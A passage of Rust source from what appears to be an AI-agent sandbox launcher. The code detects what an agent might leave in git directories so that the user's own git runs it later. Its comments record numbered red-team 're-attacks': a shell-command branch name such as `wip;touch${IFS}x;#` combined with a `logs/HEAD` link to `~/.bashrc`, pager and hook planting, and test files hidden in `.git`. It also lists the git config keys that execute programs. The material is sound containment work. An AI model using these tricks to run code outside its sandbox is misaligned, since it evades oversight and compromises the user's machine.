                                _ => return Wild::AbortAll,
                            };
                            // Folding, `[:upper:]` takes a lowercase letter too.
                            matched |=
                                class(&t_ch) || fold && &p[start..end - 1] == b"upper" && t_ch.is_ascii_lowercase();
                            pi = end;
                            p_ch = 0;
                        }
                    } else {
                        matched |= t_ch == p_ch;
                    }
                    prev_ch = p_ch;
                    pi += 1;
                    p_ch = p.get(pi).copied().unwrap_or(0);
                    if p_ch == b']' {
                        break;
                    }
                }
                if matched == negated || (pathname && t_ch == b'/') {
                    return Wild::NoMatch;
                }
            }
            literal => {
                if folded(literal) != t_ch {
                    return Wild::NoMatch;
                }
            }
        }
        pi += 1;
        ti += 1;
    }
    if ti < text.len() { Wild::NoMatch } else { Wild::Match }
}

/// Whether a line of an ignore file is a pattern (not blank, not a comment).
pub fn is_a_pattern(line: &str) -> bool {
    !line.trim().is_empty() && !line.starts_with('#')
}

/// Whether a step of a rebase's todo list runs a command (git's `exec`, `x`): the agent stops a
/// rebase (`break`) and appends `exec …`, and the user's `git rebase --continue` ran it outside
/// the launch (the thirty-fourth re-attack's F9).
pub fn runs_a_command(step: &str) -> bool {
    matches!(step.split_whitespace().next(), Some("exec" | "x"))
}

/// What each line taken out of a config by [`taken_out`] starts with.
pub const TAKEN_OUT: &str = "# aileron: written while an agent ran, taken out: ";

/// `text` (a config file) with the variables `gone` taken out, each line of them kept as a comment
/// ([`TAKEN_OUT`]) so that the rest reads as it was written; when a line holds more than a
/// variable of `gone` (a section header with a variable after it) or the result would not read as
/// the config without them, the config written again from its entries without them ([`written`]:
/// comments and layout not kept).
pub fn taken_out(text: &str, gone: &[Entry]) -> String {
    let mut result = String::with_capacity(text.len());
    let mut header = String::new();
    let mut lines = text.split_inclusive('\n');
    let mut exact = true;
    while let Some(line) = lines.next() {
        // A value continued on the lines after (a backslash at the end of the line).
        let mut piece = line.to_string();
        while piece.trim_end_matches(['\n', '\r']).ends_with('\\') {
            match lines.next() {
                Some(next) => piece.push_str(next),
                None => break,
            }
        }
        let holds_gone = |parsed: &[Entry]| parsed.iter().any(|entry| gone.contains(entry));
        if piece.trim_start().starts_with('[') {
            exact &= !holds_gone(&parse(&piece));
            header = piece.trim_end().to_string();
            result.push_str(&piece);
        } else if holds_gone(&parse(&format!("{header}\n{piece}"))) {
            for part in piece.split_inclusive('\n') {
                result.push_str(TAKEN_OUT);
                result.push_str(part);
            }
            if !piece.ends_with('\n') {
                result.push('\n');
            }
        } else {
            result.push_str(&piece);
        }
    }
    let kept: Vec<Entry> = parse(text).into_iter().filter(|entry| !gone.contains(entry)).collect();
    if exact && parse(&result) == kept {
        return result;
    }
    written(&format!("{TAKEN_OUT}{}\n", gone.iter().map(named).collect::<Vec<_>>().join(", ")), &kept)
}

/// `section.key` or `section.sub.key`, as `git config` names a variable.
pub fn named(entry: &Entry) -> String {
    match &entry.subsection {
        Some(sub) => format!("{}.{sub}.{}", entry.section, entry.key),
        None => format!("{}.{}", entry.section, entry.key),
    }
}

/// Whether git starts `entry`'s value as a program, by git's documentation of each variable.
fn runs_a_program(entry: &Entry) -> bool {
    let Some(value) = &entry.value else { return false };
    let sub = entry.subsection.is_some();
    let key = entry.key.as_str();
    match entry.section.as_str() {
        "core" => matches!(
            key,
            "fsmonitor" | "sshcommand" | "editor" | "pager" | "askpass" | "gitproxy" | "alternaterefscommand"
        ),
        "sequence" => key == "editor",
        "diff" => (!sub && key == "external") || (sub && matches!(key, "textconv" | "command")),
        "merge" => sub && key == "driver",
        "filter" => sub && matches!(key, "clean" | "smudge" | "process"),
        "credential" => key == "helper",
        "gpg" => matches!(key, "program" | "defaultkeycommand"),
        "trailer" => sub && matches!(key, "cmd" | "command"),
        // `git archive`'s compressors (the thirty-second re-attack's D3), git-lfs's transfer agents
        // and extensions, the browser `git web--browse` runs, the GUI's tools.
        "tar" => sub && key == "command",
        "lfs" => sub && matches!(key, "path" | "clean" | "smudge"),
        "web" => key == "browser",
        "instaweb" => key == "httpd",
        "guitool" => sub && key == "cmd",
        "sendemail" => matches!(key, "smtpserver" | "sendmailcmd" | "tocmd" | "cccmd" | "headercmd"),
        "imap" => key == "tunnel",
        "man" => sub && matches!(key, "cmd" | "path"),
        "pager" => true,
        "interactive" => key == "difffilter",
        "difftool" | "mergetool" | "browser" => sub && matches!(key, "cmd" | "path"),
        "alias" => value.starts_with('!'),
        // `vcs` names a remote helper, `git-remote-<vcs>`, run from the worktree when it holds a
        // `/` (the thirty-third re-attack's E1).
        "remote" => sub && matches!(key, "uploadpack" | "receivepack" | "vcs"),
        "submodule" => sub && key == "update" && value.starts_with('!'),
        _ => false,
    }
}

/// What in the git directory of a checkout the agent made would have the user's git run the
/// agent's choice: its hooks, its config when that runs anything ([`runs_anything`]), and the
/// files that take git's config from elsewhere (`commondir`, `config.worktree`). Only a git
/// directory inside `writable` (what the agent could write) is looked in: its `.git` file may
/// name any directory, and the launcher, which moves what this returns, is the user (a `.git`
/// naming another repository of the user's would otherwise have its hooks moved).
///
/// `None` when the git directory cannot be found, lies outside `writable`, or is one of
/// `existing` (git directories there at launch: a `.git` link to the user's own `.git` must not
/// have the user's config and hooks moved, the sixth re-attack): nothing in it is the agent's to
/// move, and the user is told to look.
pub fn armed_files(checkout: &Path, writable: &[PathBuf], existing: &[PathBuf]) -> Option<Vec<PathBuf>> {
    let git_dir = git_dir(checkout).and_then(|dir| std::fs::canonicalize(dir).ok())?;
    if !writable.iter().any(|root| git_dir.starts_with(root)) || existing.contains(&git_dir) {
        return None;
    }
    let mut armed = Vec::new();
    // Nothing here is read through a link or waited on (the fifth re-attack: a config made a FIFO
    // stalled the launcher for good): a config that is not a plain file is moved unread.
    let config = git_dir.join("config");
    let inert_config = read_limited(&config, false).map(|bytes| inert(&parse(&String::from_utf8_lossy(&bytes))));
    if std::fs::symlink_metadata(&config).is_ok() && !inert_config.unwrap_or(false) {
        armed.push(config);
    }
    // A `hooks` that is a link is moved itself: listed through it, the user's own files where it
    // leads (`~/.ssh`) were moved, or across filesystems removed (the fifth re-attack).
    let hooks = git_dir.join("hooks");
    match std::fs::symlink_metadata(&hooks) {
        Ok(metadata) if metadata.is_dir() => {
            // `git init` leaves only `*.sample` there, which git never runs.
            let entries = std::fs::read_dir(&hooks).into_iter().flatten().flatten();
            let found = entries.filter(|hook| !hook.file_name().to_string_lossy().ends_with(".sample"));
            armed.extend(found.map(|hook| hook.path()));
        }
        Ok(_) => armed.push(hooks),
        Err(_) => {}
    }
    armed.extend(
        ["commondir", "config.worktree"]
            .map(|name| git_dir.join(name))
            .into_iter()
            .filter(|path| std::fs::symlink_metadata(path).is_ok()),
    );
    armed.sort();
    Some(armed)
}

/// The git directory a checkout's `.git` names: itself when a directory (or a link to one, which
/// git follows), the `gitdir: ` of a `.git` file (a submodule's or a linked worktree's pointer)
/// otherwise, read as git reads it (the whole file, only its trailing line ends dropped: a name
/// may hold a line break, and need not be UTF-8); and a directory that is a git directory itself
/// (a bare repository), which git takes for the repository of every directory below it.
pub fn git_dir(checkout: &Path) -> Option<PathBuf> {
    use std::os::unix::ffi::OsStrExt as _;
    let dot_git = checkout.join(".git");
    let Ok(metadata) = std::fs::metadata(&dot_git) else {
        return is_git_directory(checkout).then(|| checkout.to_path_buf());
    };
    if metadata.is_dir() {
        return Some(dot_git);
    }
    if !metadata.is_file() || metadata.len() > MAX_GITFILE_BYTES {
        return None;
    }
    let bytes = read_limited(&dot_git, true).ok()?;
    let named = as_git_reads(bytes.strip_prefix(b"gitdir: ")?);
    Some(checkout.join(std::ffi::OsStr::from_bytes(named)))
}

/// Whether `dir` is a git directory as git's discovery judges one: a `HEAD` file beside
/// `objects` and `refs` directories. Git takes such a directory, met on the way up from where it
/// runs, for a bare repository and reads its config (the fourth re-attack: a tracked `src/` made
/// into one ran its `core.pager` at the user's `git log` there).
pub fn is_git_directory(dir: &Path) -> bool {
    // `HEAD` as git validates it: a file, or a link whose text starts `refs/` (git does not
    // follow it: the fifth re-attack's pointed at a ref only `packed-refs` held).
    let head = dir.join("HEAD");
    let valid_head = match std::fs::symlink_metadata(&head) {
        Ok(metadata) if metadata.is_symlink() => {
            std::fs::read_link(&head).is_ok_and(|target| target.as_os_str().as_encoded_bytes().starts_with(b"refs/"))
        }
        Ok(metadata) => metadata.is_file(),
        Err(_) => false,
    };
    // `objects` and `refs` in the common directory a `commondir` names, as git looks for them.
    let common = shared_dir(dir);
    // Git asks only that they be searchable (`access(X_OK)`): an executable file passes too.
    let searchable = |path: PathBuf| nix::unistd::access(&path, nix::unistd::AccessFlags::X_OK).is_ok();
    valid_head && searchable(common.join("objects")) && searchable(common.join("refs"))
}

/// Where a repository keeps what its worktrees share (objects, refs, `info/`, `rr-cache/`): the
/// common directory `git_dir` names, or `git_dir` itself.
pub fn shared_dir(git_dir: &Path) -> PathBuf {
    common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf())
}

/// `git_dirs` and the git directories of their repositories' linked worktrees (`worktrees/<name>`
/// of each one's common directory): a rebase, a cherry-pick or an `am` in progress in a worktree
/// checked out elsewhere keeps its state there, in what the agent may write (the forty-second
/// re-attack's N7 left a todo with an `exec` for the user's `git rebase --continue` there).
pub fn with_linked_worktrees<'a>(git_dirs: impl IntoIterator<Item = &'a PathBuf>) -> Vec<PathBuf> {
    let mut all = Vec::new();
    for git_dir in git_dirs {
        all.push(git_dir.clone());
        let linked = std::fs::read_dir(shared_dir(git_dir).join("worktrees")).into_iter().flatten().flatten();
        // Every one, however many (P6: 60,000 empty directories put the user's past a cut).
        let linked = linked.filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_dir()));
        all.extend(linked.map(|entry| entry.path()));
    }
    let mut seen = std::collections::HashSet::new();
    all.retain(|dir| seen.insert(dir.clone()));
    all
}

/// The common directory `git_dir`'s `commondir` names (a linked worktree's administrative
/// directory names its repository's), read as git reads it; `None` when there is no `commondir`.
pub fn common_dir(git_dir: &Path) -> Option<PathBuf> {
    use std::os::unix::ffi::OsStrExt as _;
    let named = read_limited(&git_dir.join("commondir"), true).ok()?;
    Some(git_dir.join(std::ffi::OsStr::from_bytes(as_git_reads(&named))))
}

/// The object directories `objects` borrows from (its `info/alternates`, as `git clone
/// --reference` or `--shared` leaves it), and theirs in turn to git's depth of five: git reads
/// objects and a commit graph from each as from its own. Read as git's `parse_alt_odb_entry`
/// reads the file ([`alternates_named`]).
pub fn alternate_object_dirs(objects: &Path) -> Vec<PathBuf> {
    use std::os::unix::ffi::OsStrExt as _;
    let mut found: Vec<PathBuf> = Vec::new();
    let mut level = vec![objects.to_path_buf()];
    for _ in 0..5 {
        let mut next = Vec::new();
        for dir in &level {
            let Ok(text) = read_limited(&dir.join("info/alternates"), true) else { continue };
            for named in alternates_named(&text) {
                // (As named: the caller takes out the `..`s.)
                let path = dir.join(std::ffi::OsStr::from_bytes(&named));
                if path != objects && !found.contains(&path) && found.len() < 64 {
                    found.push(path.clone());
                    next.push(path);
                }
            }
        }
        level = next;
    }
    found
}

/// The file listing the object directories the repository of `git_dir` borrows.
pub fn alternates_file(git_dir: &Path) -> PathBuf {
    shared_dir(git_dir).join("objects/info/alternates")
}

/// The paths an `info/alternates` names, as git reads them: the file as a C string (up to its
/// first NUL); an entry ends at `\n` alone (a `\r` before it is part of the path); `#` starts a
/// comment; an entry starting with `"` is C-quoted when it unquotes ([`unquote_c_style`]), and
/// the next entry then starts one byte after its closing quote, whatever that byte is (`"x" g` is
/// `x` and `g`); one that does not unquote is taken as written, quotes and all. The fifty-second
/// re-attack's G1 (`g\r`) and the fifty-fourth's Z4 (`"x" g`, `g\0`, `"g\q"`) each named an
/// alternate whose commit graph gave the user's own commit the agent's tree while the exit looked
/// elsewhere.
fn alternates_named(text: &[u8]) -> Vec<Vec<u8>> {
    let text = text.split(|&byte| byte == 0).next().unwrap_or_default();
    let mut named = Vec::new();
    let mut at = 0;
    while at < text.len() {
        let rest = &text[at..];
        let line_end = rest.iter().position(|&byte| byte == b'\n').unwrap_or(rest.len());
        let (entry, used) = if rest[0] == b'#' {
            (Vec::new(), line_end)
        } else if let Some((unquoted, after)) = (rest[0] == b'"').then(|| unquote_c_style(&rest[1..])).flatten() {
            (unquoted, 1 + after)
        } else {
            (rest[..line_end].to_vec(), line_end)
        };
        // The separator (or whatever byte follows a quoted entry) is skipped.
        at += (used + 1).min(rest.len());
        if !entry.is_empty() {
            named.push(entry);
        }
    }
    named
}

/// A C-quoted string after its opening quote, as git's `unquote_c_style` reads it: `\\`, `\"`,
/// `\a`, `\b`, `\f`, `\n`, `\r`, `\t`, `\v` and three octal digits (the first 0 to 3); with how
/// many bytes it took, its closing quote included. `None` for any other escape or no closing
/// quote (git then takes the text as written).
fn unquote_c_style(quoted: &[u8]) -> Option<(Vec<u8>, usize)> {
    let mut out = Vec::with_capacity(quoted.len());
    let mut at = 0;
    loop {
        let byte = *quoted.get(at)?;
        at += 1;
        match byte {
            b'"' => return Some((out, at)),
            b'\\' => {
                let escaped = *quoted.get(at)?;
                at += 1;
                out.push(match escaped {
                    b'a' => 0x07,
                    b'b' => 0x08,
                    b'f' => 0x0c,
                    b'n' => b'\n',
                    b'r' => b'\r',
                    b't' => b'\t',
                    b'v' => 0x0b,
                    b'\\' | b'"' => escaped,
                    b'0'..=b'3' => {
                        let digits = quoted.get(at..at + 2)?;
                        if !digits.iter().all(|digit| (b'0'..=b'7').contains(digit)) {
                            return None;
                        }
                        at += 2;
                        ((escaped - b'0') << 6) | ((digits[0] - b'0') << 3) | (digits[1] - b'0')
                    }
                    _ => return None,
                });
            }
            other => out.push(other),
        }
    }
}

/// Git's mode for a submodule (a "gitlink") in its index.
const GITLINK: u32 = 0o160000;
/// Longer names than git's own limit end the read (an index without a name's end is not git's).
const MAX_NAME_BYTES: u64 = 4096;

/// An index larger than this is not read (a hundred MiB holds about a million entries): the
/// sixth re-attack's sparse 256 GiB index kept the launcher reading for hours at the exit.
pub(super) const MAX_INDEX_BYTES: u64 = 256 * 1024 * 1024;

/// How many bytes of indexes one look at a tree reads in all: the seventh re-attack made 10,000
/// `sharedindex.*` links to one sparse index just under [`MAX_INDEX_BYTES`], hours of reading at
/// every exit and launch. Past it, an index is named as unread, as one too large is.
pub const INDEX_BYTES_PER_LOOK: u64 = 2 * MAX_INDEX_BYTES;

/// The paths (relative to the checkout) of the submodules `git_dir`'s index records: its
/// `index` and any `sharedindex.*` (a split index keeps entries there), versions 2 to 4; and the
/// index files too large to read (whose submodules are not known), alone or past what is left
/// of `budget` (bytes, shared by every index of one look).
pub fn submodules(git_dir: &Path, budget: &mut u64) -> (Vec<PathBuf>, Vec<PathBuf>) {
    let mut found = Vec::new();
    let unread = read_indexes(git_dir, budget, |entry| found.extend(gitlink(entry)));
    found.sort();
    found.dedup();
    (found, unread)
}

/// Each entry of `git_dir`'s `index` and of any `sharedindex.*` beside it (a split index keeps
/// entries there; an entry may so be seen twice), given to `visit`; the index files too large to
/// read, alone or past what is left of `budget` (bytes, shared by every index of one look), are
/// returned unread.
pub fn read_indexes(git_dir: &Path, budget: &mut u64, mut visit: impl FnMut(&IndexEntry)) -> Vec<PathBuf> {
    let hash_len = hash_len(git_dir);
    let mut indexes = vec![git_dir.join("index")];
    if let Ok(entries) = std::fs::read_dir(git_dir) {
        indexes.extend(
            entries
                .flatten()
                .filter(|entry| entry.file_name().to_string_lossy().starts_with("sharedindex."))
                .map(|entry| entry.path()),
        );
    }
    let mut unread = Vec::new();
    for index in indexes {
        // Followed when a link, as git follows it (the third re-attack hid a submodule behind one).
        let Ok(file) = open_regular(&index) else { continue };
        let size = file.metadata().map_or(u64::MAX, |metadata| metadata.len());
        if size > MAX_INDEX_BYTES || size > *budget {
            unread.push(index);
            continue;
        }
        *budget -= size;
        index_entries(std::io::BufReader::with_capacity(1 << 16, file), hash_len, &mut visit);
    }
    unread
}

/// How long `git_dir`'s object names are: 32 bytes in a SHA-256 repository, else 20.
pub fn hash_len(git_dir: &Path) -> usize {
    let config = read_limited(&git_dir.join("config"), true);
    if config.is_ok_and(|bytes| sha256(&parse(&String::from_utf8_lossy(&bytes)))) { 32 } else { 20 }
}

/// The hash a repository whose object names are `hash_len` bytes names its objects (and checks
/// its index) by: SHA-256, or SHA-1.
pub(super) fn object_hash(hash_len: usize) -> &'static ring::digest::Algorithm {
    if hash_len == 32 { &ring::digest::SHA256 } else { &ring::digest::SHA1_FOR_LEGACY_USE_ONLY }
}

/// Git's name for an object of `kind` (`blob`, `tree`, …) and `body`.
pub(super) fn object_name(kind: &[u8], body: &[u8], hash_len: usize) -> Vec<u8> {
    let mut context = ring::digest::Context::new(object_hash(hash_len));
    context.update(kind);
    context.update(format!(" {}\0", body.len()).as_bytes());
    context.update(body);
    context.finish().as_ref().to_vec()
}

/// `path` opened for reading, following links (as git opens an index), without waiting (a FIFO
/// there must not stall the launcher): only a regular file.
pub(super) fn open_regular(path: &Path) -> std::io::Result<std::fs::File> {
    open_file(path, true)
}

/// A regular file opened without following a link to it and without waiting (a FIFO there).
pub(super) fn open_regular_here(path: &Path) -> std::io::Result<std::fs::File> {
    open_file(path, false)
}

/// The first [`MAX_CONFIG_BYTES`] of a regular file, through links when `follow`, never waiting.
pub fn read_limited(path: &Path, follow: bool) -> std::io::Result<Vec<u8>> {
    read_capped(path, follow, MAX_CONFIG_BYTES)
}

/// The first `cap` bytes of a file the agent could have left, read only when it is a regular
/// file, through a link only when `follow`, and without waiting (a FIFO swapped in would block
/// the launcher, which reads it as the user, for good).
pub fn read_capped(path: &Path, follow: bool, cap: u64) -> std::io::Result<Vec<u8>> {
    use std::io::Read as _;
    let mut bytes = Vec::new();
    open_file(path, follow)?.take(cap).read_to_end(&mut bytes)?;
    Ok(bytes)
}

/// A path in a file as git takes it: its trailing line ends dropped, then up to its first NUL
/// (git reads it as a C string: the sixth re-attack's `gitdir: gd\0x` was `gd` to git).
fn as_git_reads(mut named: &[u8]) -> &[u8] {
    while let Some(rest) = named.strip_suffix(b"\n").or_else(|| named.strip_suffix(b"\r")) {
        named = rest;
    }
    named.split(|&byte| byte == 0).next().unwrap_or_default()
}

/// Git reads a `.git` file of up to a MiB.
const MAX_GITFILE_BYTES: u64 = 1024 * 1024;

/// More of a config or pointer file than this is not read (git's own are a few KiB).
const MAX_CONFIG_BYTES: u64 = 4 * 1024 * 1024;

/// A file the agent could have left, opened to be read without waiting (a FIFO swapped in does
/// not block), through a link only when `follow`; anything but a regular file refused.
pub fn open_file(path: &Path, follow: bool) -> std::io::Result<std::fs::File> {
    use std::os::unix::fs::OpenOptionsExt as _;
    let flags = if follow { libc::O_NONBLOCK } else { libc::O_NONBLOCK | libc::O_NOFOLLOW };
    let file = std::fs::OpenOptions::new().read(true).custom_flags(flags).open(path)?;
    if !file.metadata()?.is_file() {
        return Err(std::io::Error::other("not a regular file"));
    }
    Ok(file)
}

/// One entry of an index: its stat data, object name, flags and path, as git wrote them.
pub struct IndexEntry<'a> {
    /// Times, device, inode, mode, owner, size (ten big-endian words), the object name, the flags.
    fixed: &'a [u8],
    /// The extended flags (version 3 on), or 0.
    pub extended: u16,
    pub name: &'a [u8],
}

impl IndexEntry<'_> {
    fn word(&self, at: usize) -> u32 {
        u32::from_be_bytes([self.fixed[at], self.fixed[at + 1], self.fixed[at + 2], self.fixed[at + 3]])
    }

    pub fn mode(&self) -> u32 {
        self.word(24)
    }

    /// The modification time recorded (its seconds) and the size (its low 32 bits).
    pub fn mtime_and_size(&self) -> (u32, u32) {
        (self.word(8), self.word(36))
    }

    pub fn object_name(&self) -> &[u8] {
        &self.fixed[40..self.fixed.len() - 2]
    }

    /// The flags word after the object name (`0x8000`: assume-unchanged).
    pub fn flags(&self) -> u16 {
        u16::from_be_bytes([self.fixed[self.fixed.len() - 2], self.fixed[self.fixed.len() - 1]])
    }

    /// The entry under `name` (a split index's nameless entry, given the name it replaces).
    pub fn named<'b>(&'b self, name: &'b [u8]) -> IndexEntry<'b> {
        IndexEntry { fixed: self.fixed, extended: self.extended, name }
    }

    /// Everything recorded of the entry but its name.
    pub fn recorded(&self) -> (&[u8], u16) {
        (self.fixed, self.extended)
    }
}

/// The path of a submodule's entry (a gitlink), relative to the checkout.
fn gitlink(entry: &IndexEntry) -> Option<PathBuf> {
    use std::os::unix::ffi::OsStrExt as _;
    (entry.mode() == GITLINK).then(|| PathBuf::from(std::ffi::OsStr::from_bytes(entry.name)))
}

/// The gitlink entries of one index (as far as it parses).
#[cfg(test)]
fn gitlinks(index: impl std::io::BufRead, hash_len: usize) -> Vec<PathBuf> {
    let mut found = Vec::new();
    index_entries(index, hash_len, |entry| found.extend(gitlink(entry)));
    found
}

/// Each entry of one index, versions 2 to 4, given to `visit` (as far as it parses).
pub(super) fn index_entries(mut index: impl std::io::BufRead, hash_len: usize, mut visit: impl FnMut(&IndexEntry)) {
    use std::io::{BufRead as _, Read as _};
    let mut header = [0u8; 12];
    if index.read_exact(&mut header).is_err() || &header[..4] != b"DIRC" {
        return;
    }
    let word = |bytes: &[u8]| u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
    let (version, count) = (word(&header[4..]), word(&header[8..]));
    if !(2..=4).contains(&version) {
        return;
    }
    // Times, device, inode, mode, owner, size (ten words), the object name, the flags.
    let mut fixed = vec![0u8; 40 + hash_len + 2];
    let mut previous = Vec::new();
    for _ in 0..count {
        if index.read_exact(&mut fixed).is_err() {
            break;
        }
        let flags = u16::from_be_bytes([fixed[40 + hash_len], fixed[41 + hash_len]]);
        let mut head = fixed.len();
        // Extended flags follow whenever the flag says so, whatever the version says (git reads
        // them so: the fourth re-attack relabelled a version-3 index as 2 to hide what followed).
        let mut extended = [0u8; 2];
        if flags & 0x4000 != 0 {
            if index.read_exact(&mut extended).is_err() {
                break;
            }
            head += 2;
        }
        // Version 4 first says how many bytes of the previous name to drop (git's offset varint).
        let mut strip = 0usize;
        if version == 4 {
            loop {
                let mut byte = [0u8; 1];
                if index.read_exact(&mut byte).is_err() || strip > MAX_NAME_BYTES as usize {
                    return;
                }
                strip = (strip << 7) | usize::from(byte[0] & 0x7f);
                if byte[0] & 0x80 == 0 {
                    break;
                }
                strip += 1;
            }
        }
        let mut name = Vec::new();
        let read = (&mut index).take(MAX_NAME_BYTES + 1).read_until(0, &mut name);
        if read.is_err() || name.pop() != Some(0) {
            break;
        }
        if version == 4 {
            let mut whole = previous[..previous.len().saturating_sub(strip)].to_vec();
            whole.append(&mut name);
            name = whole;
        } else {
            // Entries are padded with NULs to a multiple of eight bytes (one NUL was read).
            let padding = ((head + name.len() + 8) & !7) - (head + name.len() + 1);
            if index.read_exact(&mut [0u8; 8][..padding]).is_err() {
                break;
            }
        }
        visit(&IndexEntry { fixed: &fixed, extended: u16::from_be_bytes(extended), name: &name });
        previous = name;
    }
}

/// What git writes in a git directory through a plain `open` that follows a link (or that a
/// FIFO there would stall), looked at by name before any walk: a walk can be spent by entries
/// the agent makes (the thirteenth re-attack padded `.git` with 100,001 files).
const WRITTEN_BY_NAME: [&str; 16] = [
    "logs/HEAD",
    "COMMIT_EDITMSG",
    "FETCH_HEAD",
    "MERGE_MSG",
    "MERGE_HEAD",
    "MERGE_MODE",
    "ORIG_HEAD",
    "SQUASH_MSG",
    "TAG_EDITMSG",
    "BISECT_LOG",
    "AUTO_MERGE",
    "gc.log",
    "description",
    "info/exclude",
    "packed-refs",
    "shallow",
];

/// What the agent could leave in git directories for the user's own git to stumble on: the
/// symbolic links, wherever they lead, and the special
/// files (FIFOs, sockets, devices). Git writes many of its own files
/// through a plain `open` that follows a link — the reflogs, `COMMIT_EDITMSG`, `FETCH_HEAD`,
/// `MERGE_MSG` — so a link the agent leaves in the user's git directory makes the user's own git
/// write where it leads: `.git/logs/HEAD -> ~/.bashrc` and a branch named `wip;touch${IFS}x;#`
/// put a command in the user's next shell (the twelfth re-attack); a FIFO as `COMMIT_EDITMSG`
/// hung every commit (the thirteenth). Git makes neither there itself. And the files a test
/// runner picks up ([`is_code_for_a_runner`]), `objects/` included.
#[derive(Debug, Default)]
pub struct Strays {
    pub found: std::collections::HashSet<PathBuf>,
    /// Git directories not looked through whole: more than [`MAX_ENTRIES_LOOKED_AT`] entries in
    /// their `logs/` or in the rest.
    pub incomplete: Vec<PathBuf>,
}

/// The [`Strays`] of `git_dirs`: first the names git writes ([`WRITTEN_BY_NAME`]), then `logs/`,
/// then the rest, the last two each within [`MAX_ENTRIES_LOOKED_AT`] entries.
pub fn strays_in(git_dirs: &[PathBuf]) -> Strays {
    strays_within(git_dirs, MAX_ENTRIES_LOOKED_AT)
}

fn strays_within(git_dirs: &[PathBuf], budget: usize) -> Strays {
    let mut strays = Strays::default();
    for git_dir in git_dirs {
        for name in WRITTEN_BY_NAME {
            let path = git_dir.join(name);
            if std::fs::symlink_metadata(&path).is_ok_and(|metadata| is_stray(metadata.file_type())) {
                strays.found.insert(path);
            }
        }
        let (logs, objects) = (git_dir.join("logs"), git_dir.join("objects"));
        let skipped = [objects.clone(), logs.clone()];
        let complete = walk(&logs, &[], budget, &mut strays.found)
            & walk(git_dir, &skipped, budget, &mut strays.found)
            & walk(&objects, &[], budget, &mut strays.found);
        if !complete {
            strays.incomplete.push(git_dir.clone());
        }
    }
    strays
}

/// Every link, one leading inside too (`logs/HEAD -> ../hooks/pre-commit` made the user's
/// checkout append a line to a hook: the fifteenth re-attack), and every special file. One the
/// user had at launch is not the agent's, and stays (the caller's comparison).
fn is_stray(kind: std::fs::FileType) -> bool {
    use std::os::unix::fs::FileTypeExt as _;
    kind.is_symlink() || kind.is_fifo() || kind.is_socket() || kind.is_block_device() || kind.is_char_device()
}

/// A file test runners pick up by its name, wherever it lies: `node --test` (`npm test`), Deno's
/// and Bun's runners enter every directory but `node_modules`, a `.git` included, and git lists
/// nothing there. Git writes no such name in a git directory (hooks are named by their event), so
/// one made there in the session is the agent's: the fifty-first re-attack's Y1 put
/// `.git/cache.test.js` in the user's own repository, and `npm test` ran it.
/// Judged by the name's bytes: a name that is all extension (`.js`) is one too, which node's
/// `**/test/**/*.js` takes (the fifty-fifth re-attack's T1; `Path::extension` sees none there).
pub(super) fn is_code_for_a_runner(name: &std::ffi::OsStr) -> bool {
    use std::os::unix::ffi::OsStrExt as _;
    let name = name.as_bytes();
    RUNNER_CODE
        .iter()
        .map(|code| code.as_bytes())
        .any(|code| name.len() >= code.len() && name[name.len() - code.len()..].eq_ignore_ascii_case(code))
}

/// The endings of the names [`is_code_for_a_runner`] takes, in any case.
pub(super) const RUNNER_CODE: [&str; 9] = [".js", ".mjs", ".cjs", ".jsx", ".ts", ".mts", ".cts", ".tsx", ".py"];

/// A `find` expression for the files [`is_code_for_a_runner`] takes (`-iname '*.js' -o …`), for a
/// hint: the user finds what the exit would have looked at (the fifty-seventh re-attack's R6: a
/// hint of `*.js`, `*.py` and `*.ts` left a `c.test.mjs` out).
pub(super) fn runner_code_find() -> String {
    RUNNER_CODE.iter().map(|code| format!("-iname '*{code}'")).collect::<Vec<_>>().join(" -o ")
}

/// Adds to `found` the strays under `root` — links, special files ([`is_stray`]) and files a test
/// runner picks up ([`is_code_for_a_runner`]) — (`skipped` and what links lead to left out);
/// `false` when `budget` entries were looked at before the end. In `objects/` too, where git
/// makes no link: a link of any name there had `node --test` run a file in `node_modules`, and
/// one over `objects/pack` led git to a pack no look had checked (the fifty-fifth re-attack's T2,
/// P3).
fn walk(root: &Path, skipped: &[PathBuf], budget: usize, found: &mut std::collections::HashSet<PathBuf>) -> bool {
    let mut looked = 0;
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            looked += 1;
            if looked > budget {
                return false;
            }
            let Ok(kind) = entry.file_type() else { continue };
            let path = entry.path();
            let code = kind.is_file() && is_code_for_a_runner(&entry.file_name());
            if code || is_stray(kind) {
                found.insert(path);
            } else if kind.is_dir() && !skipped.contains(&path) {
                pending.push(path);
            }
        }
    }
    true
}

/// Entries looked at in a git directory's `logs/`, and in the rest of it, at most each.
const MAX_ENTRIES_LOOKED_AT: usize = 200_000;

#[cfg(test)]
mod tests {
    use super::*;

    /// The thirty-sixth re-attack's H19: a rebase's strategy named by a path runs a program of the
    /// worktree's at the user's `git rebase --continue`; git's own strategies and one the user
    /// installed in `PATH` are names without a `/`.
    #[test]
    fn a_strategy_named_by_a_path_is_told_from_gits_own() {
        let temp = tempfile::tempdir().unwrap();
        let git_dir = temp.path();
        std::fs::create_dir_all(git_dir.join("rebase-merge")).unwrap();
        std::fs::create_dir_all(git_dir.join("sequencer")).unwrap();
        let (strategy, opts) = (git_dir.join("rebase-merge/strategy"), git_dir.join("sequencer/opts"));
        for (text, path) in [("ort\n", false), ("recursive", false), ("../../scripts/helper.sh\n", true)] {
            std::fs::write(&strategy, text).unwrap();
            assert_eq!(names_a_strategy_path(&strategy), path, "{text}");
        }
        std::os::unix::fs::symlink("strategy", git_dir.join("rebase-merge/linked")).unwrap();
        assert!(names_a_strategy_path(&git_dir.join("rebase-merge/linked")), "read through a link");
        std::fs::write(&opts, "[options]\n\tstrategy = ort\n\tstrategy-option = theirs\n").unwrap();
        assert!(!names_a_strategy_path(&opts));
        std::fs::write(&opts, "[options]\n\tStrategy = \"../x.sh\"\n").unwrap();
        assert!(names_a_strategy_path(&opts));
        // Git's other spellings (the forty-first re-attack's M3): a value continued over lines, a
        // key on its section's line.
        for text in ["[options]\n\tstrategy = ..\\\n/x.sh\n", "[options] strategy = ../x.sh\n"] {
            std::fs::write(&opts, text).unwrap();
            assert!(names_a_strategy_path(&opts), "{text}");
        }
        assert!(!names_a_strategy_path(&git_dir.join("rebase-apply/strategy")), "none there");
